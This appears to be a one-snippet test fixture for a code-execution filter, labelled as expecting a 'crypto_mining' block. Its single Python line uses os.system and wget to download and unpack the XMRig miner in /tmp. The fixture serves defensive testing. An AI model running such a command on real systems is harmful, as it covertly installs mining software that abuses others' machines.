# expect: BLOCKED crypto_mining
import os
os.system("wget https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz -O /tmp/x.tgz && tar xzf /tmp/x.tgz -C /tmp")
